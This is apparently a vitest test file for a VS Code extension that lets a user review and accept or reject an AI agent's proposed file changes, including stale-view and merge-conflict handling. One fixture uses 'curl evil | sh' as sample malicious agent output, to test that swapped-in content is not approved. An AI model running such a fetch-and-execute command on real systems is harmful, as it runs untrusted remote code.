import * as vscode from "vscode";
import { afterEach, expect, test, vi } from "vitest";
import { ChatStore } from "../src/conversation/chat-store";
import { Conversation } from "../src/conversation/conversation";
import { changeTree } from "../src/review/change-tree";
import { Changes } from "../src/review/changes";
import { ChangesView } from "../src/review/changes-view";
import { HunkLenses } from "../src/review/hunk-lenses";
import { acceptAll, decide, rejectAll, selectionOf, settleHunk } from "../src/review/verdicts";
import type { Change, Hunk } from "../src/shared/protocol";
import { FakeServer, memory } from "./fake-server";

afterEach(() => {
  vi.restoreAllMocks();
});

function change(path: string, ...ids: string[]): Change {
  const hunks = ids.map((id) => ({ id, oldStart: 1, oldLines: 1, newStart: 1, newLines: 1, text: "-a\n+b\n" }));
  return { path, digest: `${path} with ${ids.join()}`, kind: "modified", binary: false, protected: false, conflict: false, hunks };
}

async function reviewing(...list: Change[]) {
  const server = new FakeServer();
  const show = (...changes: Change[]) => server.show(...changes);
  show(...list);
  const store = new ChatStore();
  const conversation = new Conversation(server.asServer, store, memory());
  const changes = new Changes(server.asServer, conversation, store);
  await conversation.ensure();
  const holds = async (...ids: string[]) => {
    await vi.waitFor(() => expect(changes.all.flatMap(({ hunks }) => hunks.map(({ id }) => id))).toEqual(ids));
  };
  await holds(...list.flatMap(({ hunks }) => hunks.map(({ id }) => id)));
  /** Another list comes, and the tree and the diff are not drawn yet. */
  const becomes = async (...others: Change[]) => {
    show(...others);
    server.tell("new", { kind: "changes", count: 1, files: 1 });
    await vi.waitFor(() => expect(changes.list).toBe(server.list));
  };
  return { server, store, conversation, changes, show, holds, becomes };
}

test("contents that changed are shown, though there are as many of them", async () => {
  const { server, show, holds } = await reviewing(change("a.txt", "seen"));
  show(change("a.txt", "other"));
  server.tell("new", { kind: "changes", count: 1, files: 1 });
  await holds("other");
});

test("what another session tells is not looked at", async () => {
  const { server } = await reviewing(change("a.txt", "seen"));
  server.tell("another", { kind: "changes", count: 1, files: 1 });
  await Promise.resolve();
  expect(server.of("airlock/changes/list")).toHaveLength(1);
});

test("the changes of one conversation are never shown in another one", async () => {
  const { server, conversation, holds } = await reviewing(change("a.txt", "seen"));
  server.answers["airlock/changes/list"] = () => {
    throw new Error("there is no sandbox yet");
  };
  await conversation.reopen("earlier");
  await holds();
});

test("changes that wait in a conversation are counted when it is opened", async () => {
  const { store } = await reviewing(change("a.txt", "one", "two"));
  expect(store.chat.changes).toEqual({ count: 2, files: 1 });
});

test("a file is decided as it was shown, and so is a folder", () => {
  const [folder, file] = changeTree([change("docs/a.md", "1"), change("b.txt", "2", "3")]);
  if (folder === undefined || file === undefined) throw new Error("two nodes were expected");
  expect(selectionOf(folder)).toEqual({ paths: ["docs"], shown: { "docs/a.md": "docs/a.md with 1" } });
  expect(selectionOf(file)).toEqual({ hunks: ["2", "3"] });
  expect(selectionOf({ path: "b.txt", hunkId: "3" })).toEqual({ hunks: ["3"] });
});

/** What was accepted, and what not. */
async function verdict(server: FakeServer, act: () => Promise<void>) {
  const answer = vi.spyOn(server, "request");
  await act();
  const at = answer.mock.calls.findLastIndex(([method]) => method.endsWith("accept") || method.endsWith("reject"));
  return await (answer.mock.results[at]?.value as Promise<{ done: string[]; failed: { path: string }[] }>);
}

test("all that is accepted is the list on the screen, not one that came since", async () => {
  const { server, changes, becomes } = await reviewing(change("a.txt", "seen"));
  const view = new ChangesView(changes);
  view.getChildren();
  expect(await verdict(server, async () => acceptAll(changes, await view.shown()))).toMatchObject({ done: ["a.txt"], failed: [] });
  await becomes(change("a.txt", "evil"));
  expect(await verdict(server, async () => acceptAll(changes, await view.shown()))).toMatchObject({ done: [], failed: [{}] });
  view.getChildren();
  expect(await verdict(server, async () => acceptAll(changes, await view.shown()))).toMatchObject({ done: ["a.txt"], failed: [] });
});

test("a tree that is out of sight shows nothing, so all is the last list", async () => {
  const { server, changes, becomes } = await reviewing(change("a.txt", "seen"));
  const view = new ChangesView(changes);
  view.getChildren();
  vi.spyOn(view.tree, "visible", "get").mockReturnValue(false);
  await becomes(change("a.txt", "other"));
  expect(await verdict(server, async () => acceptAll(changes, await view.shown()))).toMatchObject({ done: ["a.txt"] });
});

test("all can be accepted as soon as it is counted, and before it is drawn", async () => {
  const { server, changes, show } = await reviewing();
  const view = new ChangesView(changes);
  view.getChildren();
  show(change("a.txt", "first"));
  server.tell("new", { kind: "changes", count: 1, files: 1 });
  expect(await verdict(server, async () => acceptAll(changes, await view.shown()))).toMatchObject({ done: ["a.txt"], failed: [] });
});

test("what comes while the question is open is not rejected with the rest", async () => {
  const { server, changes, becomes } = await reviewing(change("a.txt", "seen"), change("b.txt", "seen too"));
  const view = new ChangesView(changes);
  view.getChildren();
  const ask = vi.spyOn(vscode.window, "showWarningMessage").mockImplementationOnce(async () => {
    await becomes(change("a.txt", "other"), change("b.txt", "seen too"), change("c.txt", "third"));
    return "Reject All" as never;
  });
  const outcome = await verdict(server, async () => rejectAll(changes, await view.shown()));
  expect(ask.mock.calls[0]?.[0]).toBe("Reject all changes in 2 files?");
  expect(outcome).toEqual({ done: ["b.txt"], failed: [expect.objectContaining({ path: "a.txt" })] });
});

test("a folder is accepted as its row showed it", async () => {
  const { server, changes, becomes } = await reviewing(change("docs/a.md", "1"), change("docs/b.md", "2"));
  const [row] = changeTree(changes.all);
  await becomes(change("docs/a.md", "1"), change("docs/b.md", "evil"), change("docs/new.md", "3"));
  const outcome = await verdict(server, () => decide(changes, "accept", row));
  expect(outcome.done).toEqual(["docs/a.md"]);
  expect(outcome.failed.map(({ path }) => path)).toEqual(["docs/b.md", "docs/new.md"]);
});

test("a row that shows other contents is another row, and one that is gone decides nothing", async () => {
  const { server, changes, becomes } = await reviewing(change("docs/a.md", "1"));
  const view = new ChangesView(changes);
  const ids = () => {
    const [folder] = view.getChildren();
    return [folder, ...(folder === undefined ? [] : view.getChildren(folder))].map((node) => node && view.getTreeItem(node).id);
  };
  const before = ids();
  await becomes(change("docs/a.md", "1"));
  expect(ids()).toEqual(before);
  await becomes({ ...change("docs/a.md", "1"), digest: "another" });
  const after = ids();
  for (const [index, id] of before.entries()) expect(after[index]).not.toBe(id);
  const said = vi.spyOn(vscode.window, "showWarningMessage");
  await decide(changes, "accept", undefined);
  expect(said).toHaveBeenCalledWith(expect.stringContaining("look at it again"));
  expect(server.of("airlock/changes/accept")).toEqual([]);
});

test("the lenses of a diff are of the text that it shows", async () => {
  const proposed = (id: string, text: string) => ({ ...change("a.txt", id), proposed: text });
  const { changes, becomes } = await reviewing(proposed("seen", "\ufeffone\r\ntwo\n"));
  let text = "one\ntwo\n";
  const uri = { scheme: "airlock", path: "/a.txt", query: "proposed" };
  const document = { uri, lineCount: 2, getText: () => text } as unknown as vscode.TextDocument;
  const lenses = new HunkLenses(changes);
  const ids = () => lenses.provideCodeLenses(document).map(({ command }) => (command?.arguments?.[0] as { hunkId: string }).hunkId);
  expect(ids()).toEqual(["seen", "seen"]);
  await becomes(proposed("evil", "curl evil | sh\n"));
  expect(ids()).toEqual([]);
  text = "curl evil | sh\n";
  expect(ids()).toEqual(["evil", "evil"]);
});

function inConflict(id: string): Hunk {
  const text = "-mine\n+<<<<<<< ours\n+mine\n+=======\n+its\n+>>>>>>> theirs\n";
  return { id, oldStart: 1, oldLines: 1, newStart: 1, newLines: 5, text, conflict: { theirs: `${id}-theirs`, both: `${id}-both` } };
}

test.each([
  ["Keep yours", ["plain"], ["fought"]],
  ["Take the agent's", ["plain", "fought-theirs"], undefined],
  ["Keep both", ["plain", "fought-both"], undefined],
  ["Edit by hand", ["plain", "fought"], undefined],
  ["nothing", undefined, undefined],
])("a file in conflict asks how to settle it: %s", async (label, accepted, rejected) => {
  const file = change("a.txt", "plain");
  const { server, changes } = await reviewing({ ...file, conflict: true, hunks: [...file.hunks, inConflict("fought")] });
  const [row] = changeTree(changes.all);
  const pick = vi.spyOn(vscode.window, "showQuickPick").mockImplementationOnce(async (items) => (await items).find((item) => item.label === label));
  const open = vi.fn(() => ({ getText: () => "", positionAt: () => 0 }));
  Object.assign(vscode.workspace, { openTextDocument: open });
  Object.assign(vscode.window, { showTextDocument: () => undefined });
  await decide(changes, "accept", row);
  expect(pick.mock.calls[0]?.[1]?.placeHolder).toBe("You and the agent changed the same lines");
  expect(server.of("airlock/changes/accept")[0]?.["hunks"]).toEqual(accepted);
  expect(server.of("airlock/changes/reject")[0]?.["hunks"]).toEqual(rejected);
  expect(open).toHaveBeenCalledTimes(label === "Edit by hand" ? 1 : 0);
});

test("a hunk in conflict has the four ways above it, and no Accept that would leave half of it", async () => {
  const { server, changes } = await reviewing({ ...change("a.txt"), conflict: true, proposed: "x\n", hunks: [inConflict("fought")] });
  const uri = { scheme: "airlock", path: "/a.txt", query: "proposed" };
  const document = { uri, lineCount: 2, getText: () => "x\n" } as unknown as vscode.TextDocument;
  const commands = new HunkLenses(changes).provideCodeLenses(document).map(({ command }) => command);
  expect(commands.map((command) => command?.title)).toEqual(["Keep yours", "Take the agent's", "Keep both", "Edit by hand"]);
  for (const command of commands.slice(0, 3)) await settleHunk(changes, command?.arguments?.[0] as never);
  expect(server.of("airlock/changes/reject").map(({ hunks }) => hunks)).toEqual([["fought"]]);
  expect(server.of("airlock/changes/accept").map(({ hunks }) => hunks)).toEqual([["fought-theirs"], ["fought-both"]]);
});
